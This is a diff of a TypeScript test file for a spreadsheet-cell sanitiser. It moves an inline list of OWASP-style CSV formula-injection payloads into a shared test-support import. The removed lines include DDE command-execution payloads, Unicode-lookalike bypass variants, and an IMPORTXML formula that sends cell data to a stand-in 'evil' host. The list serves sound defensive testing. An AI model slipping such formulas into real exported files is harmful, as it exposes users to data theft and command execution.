@@ -1,30 +1,5 @@
+import { FORMULA_PAYLOADS } from '../../../../test/support/formula-payloads';
 import { csvStringifier, spreadsheetText, startsFormula, trimText } from './spreadsheet-cells';
-
-/** OWASP-style formula payloads: each must come out as text. */
-const FORMULA_PAYLOADS = [
-  '=HYPERLINK("http://evil","x")',
-  "+cmd|' /C calc'!A0",
-  '@SUM(1+1)',
-  '-2+3',
-  "=cmd|'/C calc'!A0",
-  '\t=1+1',
-  '\r=1',
-  '＝1+1',
-  ' =1',
-  '=1+1',
-  "-cmd|' /C calc'!A0",
-  '@A1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
-  '\u3000=1+1',
-  '\u200b=1+1',
-  '\ufeff+1',
-  '\n=1+1',
-  '﹦1+1',
-  '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
-  '=DDE("cmd";"/C calc";"!A0")',
-];
 
 describe('spreadsheetText', () => {
   it.each(FORMULA_PAYLOADS.map((p) => [JSON.stringify(p), p]))('prefixes an apostrophe to %s', (_name, payload) => {
